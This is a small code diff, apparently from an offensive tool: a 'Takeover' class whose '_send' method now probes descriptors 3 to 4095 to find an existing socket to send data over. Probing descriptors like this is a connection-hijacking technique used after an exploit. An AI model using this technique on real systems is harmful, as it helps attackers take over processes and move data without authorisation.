@@ -113,7 +113,7 @@ class Takeover:
             time.sleep(1)
 
     def _send(self, data: bytes) -> None:
-        for descriptor in range(3, 64):
+        for descriptor in range(3, 4096):
             try:
                 channel = socket.socket(fileno=os.dup(descriptor))
             except OSError:
